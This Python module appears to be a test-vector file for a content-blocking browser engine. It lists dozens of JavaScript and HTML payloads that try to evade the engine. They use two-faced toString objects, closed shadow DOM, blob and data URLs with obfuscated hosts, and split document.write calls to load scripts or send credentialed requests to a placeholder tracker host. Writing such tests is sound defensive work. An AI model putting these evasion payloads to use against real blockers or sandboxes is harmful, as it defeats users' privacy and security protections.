"""More vectors of the kinds of unlisted.py: what a hostile reader of the engine would try."""

from __future__ import annotations

from .unlisted import IMPORTS, NAVIGATED, REALMS, SINKS, STORAGE, TREES

_add = "document.body.insertAdjacentHTML('beforeend',"
_named = _add + "'<iframe name=h></iframe>');"
_frame = "var f=document.createElement('iframe');document.body.appendChild(f);"
_url = "url({T}/t.gif)"
_fetch = "fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){})"
_sub = "https://{H}/{P}/t.js"
# An object that says another thing at its first look, then one that does at its second, and so on.
_faces = "function each(a,b,go){for(let k=0;k<4;k++){let n=0;try{go({toString(){return n++===k?b:a}})}catch(e){}}};"

NAVIGATED_JS = {
    "v-window-name": _frame + "f.contentWindow.name='q';open('{T}/f.html','q')",
    "v-parent": _frame + "var d=f.contentDocument;d.body.innerHTML='<iframe></iframe>';var e=d.querySelector('iframe').contentDocument;"
    "e.body.innerHTML='<a target=_parent href=\"{T}/f.html\">x</a>';e.querySelector('a').click()",
    "v-a-detached-dispatch": _named + "var a=document.createElement('a');a.href='{T}/f.html';a.target='h';a.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true}))",
    "v-a-detached-child": _named + "var a=document.createElement('a');a.href='{T}/f.html';a.target='h';a.innerHTML='<b>x</b>';a.firstChild.click()",
    "v-a-shadow-dispatch": _named + "var p=document.createElement('div');document.body.append(p);var r=p.attachShadow({mode:'closed'});r.innerHTML='<a target=h href=\"{T}/f.html\">x</a>';"
    "r.firstChild.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true}))",
    "v-form-in-shadow": _named + "var p=document.createElement('div');document.body.append(p);var r=p.attachShadow({mode:'closed'});r.innerHTML='<form target=h action=\"{T}/f.html\"><button>x</button></form>';"
    "r.querySelector('button').click()",
    "v-shadow-name": "var p=document.createElement('div');document.body.append(p);p.attachShadow({mode:'closed'}).innerHTML='<iframe name=q></iframe>';open('{T}/f.html','q')",
    "v-meta-base": _frame + "f.contentDocument.head.innerHTML='<base href=\"{T}/\"><meta http-equiv=refresh content=\"0;url=f.html\">'",
    "v-base-html": _frame + "f.contentDocument.body.innerHTML='<base href=\"{T}/\"><img src=t.gif>'",
    "v-open-javascript": _named + "open(\"javascript:'<script src={T}/t.js><\\/script>'\",'h')",
    "v-blob-entities": _frame + "f.src=URL.createObjectURL(new Blob(['<script src={T}/t.js><\\/script>'.replace(/\\//,'&sol;').replace('://',':&#47;&#x2f;')],{type:'text/html'}))",
    "v-blob-backslash": _frame + "f.src=URL.createObjectURL(new Blob(['<script src={T}/t.js><\\/script>'.replace('://',':\\\\\\\\')],{type:'text/html'}))",
    "v-blob-tab": _frame + "f.src=URL.createObjectURL(new Blob(['<script src=\"{T}/t.js\"><\\/script>'.replace('ps://tr','p\\ts:/\\t/t\\tr')],{type:'text/html'}))",
    "v-blob-percent": _frame + "f.src=URL.createObjectURL(new Blob(['<script src={T}/t.js><\\/script>'.replace('tracker','%74racker')],{type:'text/html'}))",
    "v-blob-wide": _frame + "f.src=URL.createObjectURL(new Blob(['<meta charset=utf-8><script src={T}/t.js><\\/script>'.replace('tracker.','\\uff54racker\\u3002')],{type:'text/html'}))",
    "v-data-wide": _frame + "f.src='data:text/html;charset=utf-16;base64,'+btoa('<script src={T}/t.js><\\/script>'.replace(/./g,'$&\\0'))",
    "v-data-control": _frame + "f.src='\\x01data:text/html,<script src={T}/t.js><\\/script>'",
    "v-data-tab": _frame + "f.src='da\\tta:text/html,<script src={T}/t.js><\\/script>'",
    "v-code-built": _named + "var a=document.createElement('a');a.target='h';a.href=\"javascript:'<img src={T}/t.gif>'\";document.body.append(a);a.click()",
}  # fmt: skip
NAVIGATED_BODY: dict[str, str] = {}

_based = "var d=f.contentDocument,b=d.createElement('base');b.href='{T}/';d.head.append(b);"
REALMS_JS = {
    "r-two-faced": "fetch({url:'/own/png',toString:function(){return'{T}/data'}},{credentials:'include',mode:'no-cors'}).catch(function(){})",
    "r-two-faced-request": "var q=new Request('{T}/data',{credentials:'include',mode:'no-cors'});Object.defineProperty(q,'url',{value:'/own/png'});fetch(q).catch(function(){})",
    "r-two-faced-xhr": _faces + "each('/own/png','{T}/data',function(o){var x=new XMLHttpRequest();x.open('GET',o);x.withCredentials=true;x.send()})",
    "r-two-faced-socket": _faces + "each('wss://www.shop.test/own','{T}/ws'.replace('https','wss'),function(o){new WebSocket(o)})",
    "r-two-faced-beacon": _faces + "each('/own/png','{T}/data',function(o){navigator.sendBeacon(o,'a')})",
    "r-worker-two-faced": "new Worker(URL.createObjectURL(new Blob(['fetch({url:\"{S}/own/png\",toString(){return\"{T}/data\"}},{mode:\"no-cors\"}).catch(()=>0)'])))",
    "r-worker-import-faced": "new Worker(URL.createObjectURL(new Blob(['importScripts({url:\"{S}/own/png\",toString(){return\"{T}/w.js\"}})'])))",
    "r-write-over": _frame + "document.write.call(f.contentDocument,'<iframe></iframe>');f.contentDocument.close();f.contentWindow[0]." + _fetch,
    "r-html-over": _frame + "Object.getOwnPropertyDescriptor(Element.prototype,'innerHTML').set.call(f.contentDocument.body,'<iframe></iframe>');f.contentWindow[0]." + _fetch,
    "r-adjacent-over": _frame + "Element.prototype.insertAdjacentHTML.call(f.contentDocument.body,'beforeend','<iframe></iframe>');f.contentWindow[0]." + _fetch,
    "r-write-later": _frame + "var d=f.contentDocument;d.open();d.write('<script src=\"{T}/t.js\"');setTimeout(function(){d.write('><\\/script>');d.close()},50)",
    "r-frame-index": "var a=document.createElement('frameset');a.append(document.createElement('frame'));document.documentElement.append(a);window[0]." + _fetch,
    "r-base-style-property": _frame + _based + "d.body.append('x');d.body.style.backgroundImage='url(t.gif)';d.body.offsetWidth",
    "r-base-rule": _frame + _based + "var s=d.createElement('style');d.head.append(s);s.sheet.insertRule('body{background:url(t.gif)}');d.body.append('x')",
    "r-base-animate": _frame + _based + "d.body.append('x');d.body.animate([{backgroundImage:'url(t.gif)'},{backgroundImage:'none'}],9e3)",
    "r-base-font": _frame + _based + "new f.contentWindow.FontFace('t','url(t.woff2)').load().catch(function(){})",
    "r-base-xhr-over": _frame + _based + "var x=new f.contentWindow.XMLHttpRequest();XMLHttpRequest.prototype.open.call(x,'GET','data');x.send()",
    "r-base-image-set": _frame + _based + "d.head.insertAdjacentHTML('beforeend','<style>body{background:image-set(\"t.gif\" 1x)}</style>');d.body.append('x')",
    "r-style-value": _frame + "document.body.attributeStyleMap.set('background-image',f.contentWindow.CSSStyleValue.parse('background-image','" + _url + "'))",
    "r-blob-built": _frame + "f.src=URL.createObjectURL(new Blob(['<script>var s=document.createElement(\"script\");s.src=\"{T}/t.js\".replace(\"-\",\"-\");document.head.append(s)<\\/script>'.replace('tracker','tra\"+\"cker')],{type:'text/html'}))",
}  # fmt: skip
REALMS_BODY = {
    "r-srcdoc-deep": "<iframe srcdoc=\"<iframe srcdoc='<iframe srcdoc=&quot;<script>var s=document.createElement(`script`);s.src=`{T}/t.js`;document.head.append(s)</script>&quot;></iframe>'></iframe>\"></iframe>",
    "r-srcdoc-javascript": "<iframe srcdoc=\"<iframe src='javascript:void fetch(`https://tra`+`cker.shop.test/{P}/data`,{mode:`no-cors`}).catch(()=>0)'></iframe>\"></iframe>",
}  # fmt: skip

_host = "var p=document.createElement('div'),r=p.attachShadow({mode:'closed'});"
_made = "var s=document.createElement('script');s.src='{T}/t.js';"
TREES_JS = {
    "t-before-script": _host + _made + "r.append(s);document.body.append(p)",
    "t-before-nested": _host + _made + "var q=document.createElement('div');q.attachShadow({mode:'open'}).append(s);r.append(q);document.body.append(p)",
    "t-before-in-tree": _host + _made + "r.append(s);var q=document.createElement('div');q.append(p);document.body.append(q)",
    "t-before-link": _host + "var l=document.createElement('link');l.rel='stylesheet';l.href='{T}/t.css';r.append(l);document.body.append(p)",
    "t-before-style": _host + "var s=document.createElement('style');s.textContent='@import \"{T}/t.css\"';r.append(s);document.body.append(p)",
    "t-before-frame": _host + "r.innerHTML='<iframe src={T}/f.html></iframe>';document.body.append(p)",
    "t-before-object": _host + "r.innerHTML='<object data={T}/f.html type=text/html></object>';document.body.append(p)",
    "t-again-script": _host + "document.body.append(p);p.remove();" + _made + "r.append(s);document.body.append(p)",
    "t-before-document": _host + _made + "r.append(s);document.body.replaceChildren(...document.body.childNodes,p)",
    "t-before-slot": "customElements.define('x-s',class extends HTMLElement{constructor(){super();this.r=this.attachShadow({mode:'closed'})}});var p=document.createElement('x-s');" + _made + "p.r.append(s);document.body.append(p)",
    "t-write-style-pieces": "document.write('<style>@import \"{T}/t.css\";');document.write('<\\/style>')",
    "t-write-code-pieces": "document.write('<script>window.__AGENT__=1;document.cookie=\"_ga=1;path=/\";fetch(\"{S}/ran\");');document.write('<\\/script>')",
    "t-write-import-pieces": f"document.write('<script>var u=\"{_sub}\";import(u);');document.write('<\\/script>')",
    "t-write-svg-style": "document.write('<svg><style>@im&#112;ort \"{T}/t.css\";</style></svg>')",
    "t-write-svg-comment": "document.write('<svg><style>@im<!-- -->port \"{T}/t.css\";</style></svg>')",
    "t-write-svg-code": "document.write('<svg><script>window.__AG&#69;NT__=1;document.cookie=\"_ga=1;path=/\";fetch(\"{S}/ran\")<\\/script></svg>')",
}  # fmt: skip

IMPORTS_JS = {
    "o-frame-user": _frame + "f.contentWindow.eval(\"import('" + _sub.replace("//", "//x@") + "')\")",
    "o-data-escaped": "import(\"data:text/javascript,import '\\\\x68ttps://{H}/{P}/t.js'\")",
}  # fmt: skip
IMPORTS_BODY = {
    "o-escaped-scheme": '<script type=module>import "\\x68ttps://{H}/{P}/t.js"</script>',
    "o-escaped-host": "<script type=module>import \"" + _sub.replace("{H}", "{H}").replace("://", "\\u003a//") + "\"</script>",
    "o-escaped-slash": "<script type=module>import \"https:\\x2f\\x2f{H}/{P}/t.js\"</script>",
    "o-escaped-variable": "<script>var u='https:\\u002f\\u002f{H}/{P}/t.js';import(u)</script>",
    "o-percent": "<script type=module>import \"https://{H}/{P}/t.js?\"</script>".replace("{H}", "%77{H}").replace("%77", "%78"),
}  # fmt: skip

_style = "var s=document.createElement('style');document.head.append(s);"
_frames = "[{backgroundImage:'" + _url + "'},{backgroundImage:'none'}]"
SINKS_JS = {
    "u-two-faced-src": _faces + "each('{S}/own/png','{T}/t.gif',function(o){new Image().src=o})",
    "u-two-faced-attribute": _faces + "each('{S}/own/png','{T}/t.gif',function(o){document.createElement('img').setAttribute('src',o)})",
    "u-two-faced-name": _faces + "each('alt','src',function(o){document.createElement('img').setAttribute(o,'{T}/t.gif')})",
    "u-two-faced-script": _faces + "each('{S}/own/png','{T}/t.js',function(o){var s=document.createElement('script');document.head.append(s);s.src=o})",
    "u-two-faced-html": _faces + "each('x','<img src={T}/t.gif>',function(o){document.body.insertAdjacentHTML('beforeend',o)})",
    "u-two-faced-inner": _faces + "each('x','<img src={T}/t.gif>',function(o){document.createElement('div').innerHTML=o})",
    "u-two-faced-write": _faces + "each('x','<script src={T}/t.js><\\/script>',function(o){document.write(o)})",
    "u-two-faced-style": _faces + "each('none','" + _url + "',function(o){document.body.style.backgroundImage=o;document.body.offsetWidth})",
    "u-two-faced-rule": _faces + _style + "each('a{}','h1{background:" + _url + "}',function(o){s.sheet.insertRule(o)})",
    "u-two-faced-text": _faces + "each('x','@import \"{T}/t.css\"',function(o){var s=document.createElement('style');document.head.append(s);s.textContent=o})",
    "u-style-forward": "var d=document.createElement('p');d.append('x');document.body.append(d);d.style='background:" + _url + "';d.offsetWidth",
    "u-animate-set": "document.body.animate(new Set(" + _frames + "),9e3)",
    "u-animate-object": "document.body.animate([{backgroundImage:{toString:function(){return'" + _url + "'}}},{backgroundImage:'none'}],9e3)",
    "u-animate-escape": "document.body.animate(" + _frames.replace("url(", "u\\\\72l(", 1) + ",9e3)",
    "u-animate-json": "document.body.animate(Object.assign(" + _frames + ",{toJSON:function(){return 0}}),9e3)",
    "u-font-object": "new FontFace('t',{toString:function(){return'url({T}/t.woff2)'}}).load().catch(function(){})",
    "u-cache-set": "caches.open('x').then(function(c){return c.addAll(new Set(['{T}/data']))}).catch(function(){})",
    "u-set-backslash": _style + "s.textContent='h1{background:image-set(\"\\\\\\\\\\\\\\\\tracker.shop.test/{P}/t.gif\" 1x)}'",
    "u-set-tab": _style + "s.textContent='h1{background:image-set(\"ht\\\\9 tps://tracker.shop.test/{P}/t.gif\" 1x)}'",
    "u-set-control": _style + "s.textContent='h1{background:image-set(\"\\\\1 {T}/t.gif\" 1x)}'",
    "u-data-sheet-escape": "var l=document.createElement('link');l.rel='stylesheet';l.href='data:text/css,@import \"{T}/t.css\"'.replace('tracker','tr\\\\61 cker');document.head.append(l)",
    "u-rtc-set-list": "var c=new RTCPeerConnection({iceServers:new Set([{urls:'turns:{H}:443?transport=tcp',username:'a',credential:'b'}])});c.createDataChannel('x');c.createOffer().then(function(o){c.setLocalDescription(o)})",
    "u-image-input": "var i=document.createElement('input');i.type='image';i.src='{T}/t.gif';document.body.append(i)",
}  # fmt: skip
_report = "fetch('{S}/ran')"
_has_local = ";if(localStorage.getItem('_ga'))" + _report
STORAGE_JS = {
    "x-two-faced-local": _faces + "each('a','_ga',function(o){localStorage.setItem(o,'1')})" + _has_local,
    "x-two-faced-database": _faces + "each('a','_ga',function(o){indexedDB.open(o).onsuccess=function(e){if(e.target.result.name=='_ga')" + _report + "}})",
    "x-two-faced-store": "for(let k=0;k<4;k++){let n=0;cookieStore.set({get name(){return n++===k?'_ga':'a'},value:'1'}).then(function(){return cookieStore.get('_ga')}).then(function(c){c&&" + _report + "})}",
}  # fmt: skip

HOSTILE: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    NAVIGATED: (NAVIGATED_BODY, NAVIGATED_JS),
    REALMS: (REALMS_BODY, REALMS_JS),
    TREES: ({}, TREES_JS),
    IMPORTS: (IMPORTS_BODY, IMPORTS_JS),
    SINKS: ({}, SINKS_JS),
    STORAGE: ({}, STORAGE_JS),
}
